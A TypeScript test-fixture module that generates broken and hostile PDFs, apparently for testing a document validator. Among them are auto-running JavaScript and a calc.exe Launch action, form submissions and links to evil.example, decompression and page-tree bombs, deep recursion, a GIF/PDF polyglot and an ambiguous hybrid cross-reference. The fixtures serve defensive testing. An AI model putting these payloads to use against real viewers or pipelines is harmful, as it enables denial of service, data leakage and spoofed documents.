import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { PDF } from '@libpdf/core';
import { buildPdf, buildSimplePdf, packObjectStream } from './pdf-builder.ts';

/** Bytes under a .pdf name that are no PDF. */
export function notPdf(): Buffer {
  return Buffer.from('<!doctype html><title>Contract</title><p>This is a web page.'.repeat(20));
}

export function empty(): Buffer {
  return Buffer.alloc(0);
}

/** A sound file whose last third never arrived. */
export function truncated(): Buffer {
  const whole = buildSimplePdf({ pages: 3 });
  return whole.subarray(0, Math.floor((whole.length * 2) / 3));
}

/** Begins and ends like a PDF, but its pointers lead nowhere. */
export function damaged(): Buffer {
  const whole = buildSimplePdf().toString('latin1');
  return Buffer.from(whole.replace(/startxref\n\d+/, 'startxref\n77').replaceAll(' obj', ' job'), 'latin1');
}

/** The cross-reference table is in place, but the catalog is gone. */
export function withoutCatalog(): Buffer {
  return Buffer.from(buildSimplePdf().toString('latin1').replace('/Pages 2 0 R', '/Pigas 2 0 R'), 'latin1');
}

async function protect(options: Parameters<PDF['setProtection']>[0], file = buildSimplePdf()): Promise<Buffer> {
  const pdf = await PDF.load(file);
  pdf.setProtection(options);
  return Buffer.from(await pdf.save());
}

/** Needs a password to be opened (AES-256). */
export function passwordProtected(): Promise<Buffer> {
  return protect({ userPassword: 'secret', ownerPassword: 'owner' });
}

/** Needs a password to be opened, by RC4 with 40 bits as programs of the nineties wrote it (ISO 32000-1, 7.6.3). */
export function passwordProtectedByRc4(): Buffer {
  const filler = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex');
  const pad = (password: string) => Buffer.concat([Buffer.from(password), filler]).subarray(0, 32);
  const md5 = (...parts: Buffer[]) => createHash('md5').update(Buffer.concat(parts)).digest().subarray(0, 5);
  const id = Buffer.alloc(16, 7);
  const permissions = Buffer.from('fcffffff', 'hex');
  const owner = encryptRc4(md5(pad('owner')), pad('secret'));
  const user = encryptRc4(md5(pad('secret'), owner, permissions, id), filler);
  const hex = (bytes: Buffer) => `<${bytes.toString('hex')}>`;
  const simple = buildSimplePdf().toString('latin1');
  const encrypt = `/Encrypt << /Filter /Standard /V 1 /R 2 /O ${hex(owner)} /U ${hex(user)} /P -4 >>`;
  return Buffer.from(simple.replace('/Root 1 0 R', `/Root 1 0 R ${encrypt} /ID [${hex(id)} ${hex(id)}]`), 'latin1');
}

function encryptRc4(key: Buffer, data: Buffer): Buffer {
  const state = Uint8Array.from({ length: 256 }, (_, index) => index);
  const swap = (a: number, b: number) => ([state[a], state[b]] = [state[b]!, state[a]!]);
  for (let i = 0, j = 0; i < 256; i += 1) {
    j = (j + state[i]! + key[i % key.length]!) & 255;
    swap(i, j);
  }
  let i = 0;
  let j = 0;
  return Buffer.from(data).map((byte) => {
    i = (i + 1) & 255;
    j = (j + state[i]!) & 255;
    swap(i, j);
    return byte ^ state[(state[i]! + state[j]!) & 255]!;
  }) as Buffer;
}

/** Opens without a password; its owner allows everything but copying. Acceptable. */
export function ownerProtected(): Promise<Buffer> {
  return protect({ ownerPassword: 'owner', permissions: { copy: false } });
}

/** Any file, encrypted so that it opens without a password. */
export function protectOwnerOnly(file: Buffer): Promise<Buffer> {
  return protect({ ownerPassword: 'owner', permissions: { copy: false } }, file);
}

/** A file with a signature, itself a dummy. */
function dummySigned(): Buffer {
  return buildSimplePdf({
    catalog: '/AcroForm << /Fields [6 0 R] /SigFlags 3 >>',
    page: '/Annots [6 0 R]',
    extra: [
      '<< /Subtype /Widget /FT /Sig /T (Seal) /Rect [1 1 9 9] /P 5 0 R /V 7 0 R >>',
      '<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 1 2 3] /Contents <00> >>',
    ],
  });
}

/** Signed, then encrypted so that it opens without a password: unlocking it would break the signature. */
export function signedAndEncrypted(): Promise<Buffer> {
  return protectOwnerOnly(dummySigned());
}

/** Signed, then cut off. */
export function signedAndTruncated(): Buffer {
  const whole = dummySigned();
  return whole.subarray(0, whole.length - 40);
}

/** Opens without a password; its owner forbids changes. */
export function restricted(): Promise<Buffer> {
  return protect({ ownerPassword: 'owner', permissions: { modify: false } });
}

const alert = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

/** JavaScript in every place where it hides, by name of the place. */
export const javaScriptPlaces = {
  openAction: () => buildSimplePdf({ catalog: `/OpenAction ${alert}` }),
  nameTree: () => buildSimplePdf({ catalog: '/Names << /JavaScript 6 0 R >>', extra: [`<< /Names [(a) ${alert}] >>`] }),
  documentEvent: () => buildSimplePdf({ catalog: `/AA << /WC ${alert} >>` }),
  pageEvent: () => buildSimplePdf({ page: `/AA << /O ${alert} >>` }),
  annotation: () => buildSimplePdf({ page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${alert} >>]` }),
  field: () =>
    buildSimplePdf({
      catalog: `/AcroForm << /Fields [6 0 R] >>`,
      extra: [`<< /FT /Tx /T (a) /AA << /K ${alert} >> >>`],
    }),
  objectStream: () => buildSimplePdf({ catalog: '/OpenAction 90 0 R', extra: [packObjectStream([[90, alert]])] }),
  escapedName: () => buildSimplePdf({ catalog: '/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>' }),
  nextAction: () => buildSimplePdf({ catalog: `/OpenAction << /S /GoTo /D [5 0 R /Fit] /Next [${alert}] >>` }),
  hiddenInStream: () => {
    const inner = Buffer.from(`6 0 obj ${alert} endobj`);
    return buildSimplePdf({ catalog: '/OpenAction 6 0 R', extra: ['null', { dictionary: '', data: inner }] });
  },
} satisfies Record<string, () => Buffer>;

export function withJavaScript(): Buffer {
  return javaScriptPlaces.openAction();
}

export function withLaunchAction(): Buffer {
  return buildSimplePdf({ catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' });
}

/** Actions that nobody presses, by name of the place where they wait. */
export const automaticActions = {
  openAction: () => buildSimplePdf({ catalog: '/OpenAction << /S /URI /URI (https://evil.example/) >>' }),
  openForm: () =>
    buildSimplePdf({ catalog: '/OpenAction 6 0 R', extra: ['<< /S /SubmitForm /F (https://evil.example/) >>'] }),
  pageShown: () => buildSimplePdf({ page: '/AA << /O << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>' }),
  documentEvent: () => buildSimplePdf({ catalog: '/AA << /WP << /S /ImportData /F (data.fdf) >> >>' }),
  afterAnother: () =>
    buildSimplePdf({
      catalog: '/OpenAction << /S /GoTo /D [5 0 R /Fit] /Next [<< /S /URI /URI (https://evil.example/) >>] >>',
    }),
  fieldEntered: () =>
    buildSimplePdf({
      catalog: '/AcroForm << /Fields [6 0 R] >>',
      extra: ['<< /FT /Tx /T (a) /AA << /Fo << /S /SubmitForm /F (https://evil.example/) >> >> >>'],
    }),
} satisfies Record<string, () => Buffer>;

const bigEndian = (...numbers: number[]): Buffer => {
  const bytes = Buffer.alloc(4 * numbers.length);
  numbers.forEach((number, index) => bytes.writeUInt32BE(number, 4 * index));
  return bytes;
};

/** Pictures that claim 60,000 pixels a side in their own header, while their dictionary says 600; none can be drawn. */
export const vastPictures = {
  jpeg2000: () =>
    showPicture(
      'JPXDecode',
      Buffer.concat([
        Buffer.from('ff4fff51002f0000', 'hex'),
        bigEndian(60_000, 60_000, 0, 0, 60_000, 60_000, 0, 0),
        Buffer.from('0003070101070101070101', 'hex'),
      ]),
    ),
  jbig2: () =>
    showPicture(
      'JBIG2Decode',
      Buffer.concat([
        Buffer.from('00000000300001', 'hex'),
        bigEndian(19, 100_000, 60_000, 0, 0),
        Buffer.from('000000', 'hex'),
      ]),
    ),
  jpeg: () => showPicture('DCTDecode', Buffer.from('ffd8ffc0001108ea60ea6003011100021100031100ffda', 'hex')),
  packedJpeg: () =>
    showPicture(
      'FlateDecode /DCTDecode',
      deflateSync(Buffer.from('ffd8ffc2001108ea60ea6003011100021100031100ffda', 'hex')),
    ),
} satisfies Record<string, () => Buffer>;

function showPicture(filters: string, data: Buffer): Buffer {
  const size = '/Width 600 /Height 600 /BitsPerComponent 8 /ColorSpace /DeviceRGB';
  const picture = { dictionary: `/Type /XObject /Subtype /Image ${size} /Filter [/${filters}]`, data };
  return buildSimplePdf({
    resources: '/XObject << /I 6 0 R >>',
    content: '600 0 0 600 0 0 cm /I Do',
    extra: [picture],
  });
}

/** A picture for one program, a contract for the next. */
export function gifAndPdf(): Buffer {
  return Buffer.concat([Buffer.from('GIF89a\x01\0\x01\0\x80\0\0\xff\xff\xff\0\0\0!\xfe', 'latin1'), buildSimplePdf()]);
}

/** The second of its two pages is not there. */
export function missingSecondPage(): Buffer {
  const whole = buildSimplePdf().toString('latin1');
  return Buffer.from(whole.replace('/Kids [5 0 R] /Count 1', '/Kids [5 0 R 99 0 R] /Count 2'), 'latin1');
}

export function withXfa(): Buffer {
  const packet = { dictionary: '', data: '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>' };
  return buildSimplePdf({ catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>', extra: [packet] });
}

/** A page of a million points, 352 metres. */
export function hugePage(): Buffer {
  return buildSimplePdf({ mediaBox: '0 0 1000000 1000000' });
}

/** A form XObject that draws itself. */
export function recursiveForm(): Buffer {
  const form = {
    dictionary: '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>',
    data: '/X Do',
  };
  return buildSimplePdf({ resources: '/XObject << /X 6 0 R >>', content: '/X Do', extra: [form] });
}

/** Twelve forms, each drawing the next ten times: 10¹² rectangles. */
export function multiplyingForms(): Buffer {
  const extra = Array.from({ length: 12 }, (_, index) => ({
    dictionary: `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X ${7 + index} 0 R >> >>`,
    data: index === 11 ? '0 0 1 1 re f' : '/X Do '.repeat(10),
  }));
  return buildSimplePdf({ resources: '/XObject << /X 6 0 R >>', content: '/X Do', extra });
}

/** 2³⁰ spaces through deflate (level 9) three times; packing them anew takes four seconds. */
const packedThrice = Buffer.from(
  [
    'eNqruPX2jqLfnECJtouZEpcaMhwFWNhOM3lkzRK5/MChQc2DRe64D0cTa4mgDkPjkY3MUSLcDooBuRo+N5hP/p+zeF3d0+mznz/5',
    '9zHNqso08v/X/OSvRYUsDAwMPHeenL95Z/n2479O3z1/t5aBgSHhBd/+OsnzfUz1/Ne2nWFkYGBoLv/39/alN+0HLr/8eEOGgYHB',
    'oEL7PL992vaG29NXP7WtZmBgOPDgrxgPAwNDg8hBIMmQIQjmiIE5HcicUZlRmVGZUZlRmVEZQjLTFn9POPDjU+Hzquq6LxvN9JfN',
    'F//HzKS0WRMAXaVIJA==',
  ].join(''),
  'base64',
);

/** One gigabyte of spaces as a page's content, in about 650 bytes of file: three nested flate layers. */
export function flateBomb(): Buffer {
  const filter = '/Filter [/FlateDecode /FlateDecode /FlateDecode]';
  return buildSimplePdf({ content: { dictionary: filter, data: packedThrice } });
}

/** The same bomb where objects are expected: it must burst before a single object can be read. */
export function objectStreamBomb(): Buffer {
  const dictionary = '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode /FlateDecode]';
  return buildSimplePdf({ extra: [{ dictionary, data: packedThrice }] });
}

/** A page tree that claims a billion pages and has one. */
export function boastfulCount(): Buffer {
  const tree = '<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>';
  return buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', tree, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>']);
}

/** A billion kids in under 2 kB: nine levels, each naming the next ten times. */
export function billionKids(): Buffer {
  const levels = Array.from({ length: 9 }, (_, index) => {
    const kid = index === 8 ? 11 : index + 3;
    return `<< /Type /Pages /Kids [${`${kid} 0 R `.repeat(10)}] /Count 10 >>`;
  });
  const leaf = '<< /Type /Page /MediaBox [0 0 9 9] >>';
  return buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', ...levels, leaf]);
}

/** A page tree whose only kid is its own root. */
export function recursivePageTree(): Buffer {
  return buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']);
}

/** A page tree 100,000 levels deep. */
export function deepPageTree(): Buffer {
  const levels = Array.from({ length: 100_000 }, (_, index) => `<< /Type /Pages /Kids [${index + 3} 0 R] /Count 1 >>`);
  return buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', ...levels, '<< /Type /Page /MediaBox [0 0 9 9] >>']);
}

/** Arrays nested a million deep: recursive parsers run out of stack. */
export function deepArray(): Buffer {
  return buildSimplePdf({ catalog: `/PieceInfo ${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}` });
}

/** Eight million small values: too many for any honest document of its size. */
export function manyValues(): Buffer {
  return buildSimplePdf({ extra: [`[${'0 '.repeat(8_000_000)}]`] });
}

const slowTile = {
  dictionary:
    '/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.01 /YStep 0.01 /Resources << >>',
  data: '0 0 1 1 re f 1 0 0 rg 0 0 m 1 1 l 1 0 l f '.repeat(2000),
};
const slowContent = `/Pattern cs /P scn ${'0 0 595 842 re f '.repeat(20_000)}`;

/** A sound structure whose one page takes an engine minutes: shading after shading over a tiling pattern. */
export function slowPage(): Buffer {
  return buildSimplePdf({ resources: '/Pattern << /P 6 0 R >>', content: slowContent, extra: [slowTile] });
}

/** An empty page, and behind it one that takes an engine minutes. */
export function slowSecondPage(): Buffer {
  const page = '/Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]';
  return buildPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>',
    `<< ${page} >>`,
    `<< ${page} /Contents 5 0 R /Resources << /Pattern << /P 6 0 R >> >> >>`,
    { dictionary: '', data: slowContent },
    slowTile,
  ]);
}

/** An image of 30,000 × 30,000 pixels whose data is a few kilobytes: gigabytes once drawn. */
export function hugeImage(): Buffer {
  const image = {
    dictionary:
      '/Type /XObject /Subtype /Image /Width 30000 /Height 30000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode',
    data: deflateSync(Buffer.alloc(20 * 1024 * 1024), { level: 9 }),
  };
  return buildSimplePdf({ resources: '/XObject << /I 6 0 R >>', content: '595 0 0 842 0 0 cm /I Do', extra: [image] });
}

/** Certified so that not even a further signature is allowed (DocMDP P=1). The signature itself is a dummy. */
export function certifiedFinal(): Buffer {
  const reference =
    '<< /Type /SigRef /TransformMethod /DocMDP /TransformParams << /Type /TransformParams /P 1 /V /1.2 >> >>';
  return buildSimplePdf({
    catalog: '/AcroForm << /Fields [6 0 R] /SigFlags 3 >> /Perms << /DocMDP 7 0 R >>',
    page: '/Annots [6 0 R]',
    extra: [
      '<< /Type /Annot /Subtype /Widget /FT /Sig /T (Seal) /Rect [100 100 300 150] /P 5 0 R /V 7 0 R >>',
      `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 1 2 3] /Contents <00> /Reference [${reference}] >>`,
    ],
  });
}

/** A signed document whose field, by its lock, lets nobody change it any more. */
export function lockedFinal(): Buffer {
  return buildSimplePdf({
    catalog: '/AcroForm << /Fields [6 0 R] /SigFlags 3 >>',
    extra: [
      '<< /FT /Sig /T (Seal) /V 7 0 R /Lock << /Type /SigFieldLock /Action /All /P 1 >> >>',
      '<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 1 2 3] /Contents <00> >>',
    ],
  });
}

/** A table of contents with a stream beside it, as Word writes them: what the table calls free, the stream locates. */
export function hybrid(): Buffer {
  return addXrefStream(buildSimplePdf({ extra: ['(hidden)'] }), (_, offset) => offset);
}

/** A hybrid file whose stream leads to another page content than its table: which one is shown depends on the program. */
export function ambiguousHybrid(): Buffer {
  const extra = [{ dictionary: '', data: 'BT /F1 24 Tf 72 720 Td (Hello debtor) Tj ET' }];
  return addXrefStream(buildSimplePdf({ extra }), (number, offset, offsets) => (number === 4 ? offsets[6]! : offset));
}

/** Appends a revision without a single entry, whose stream locates every object where `locate` says. */
function addXrefStream(file: Buffer, locate: (number: number, offset: number, offsets: number[]) => number): Buffer {
  const text = file.toString('latin1');
  const previous = /startxref\n(\d+)/.exec(text)![1];
  const offsets = [0, ...[...text.matchAll(/^(\d+) 0 obj$/gm)].map((found) => found.index)];
  const rows = offsets.map((offset, number) => {
    const row = Buffer.alloc(7);
    row.writeUInt8(number === 0 ? 0 : 1, 0);
    row.writeUInt32BE(number === 0 ? 0 : locate(number, offset, offsets), 1);
    return row;
  });
  const data = Buffer.concat(rows);
  const stream = Buffer.concat([
    Buffer.from(
      `99 0 obj\n<< /Type /XRef /Size ${rows.length} /W [1 4 2] /Root 1 0 R /Length ${data.length} >>\nstream\n`,
    ),
    data,
    Buffer.from('\nendstream\nendobj\n'),
  ]);
  const trailer = `<< /Size ${rows.length} /Root 1 0 R /Prev ${previous} /XRefStm ${file.length} >>`;
  const table = `xref\n0 0\ntrailer\n${trailer}\nstartxref\n${file.length + stream.length}\n%%EOF\n`;
  return Buffer.concat([file, stream, Buffer.from(table)]);
}
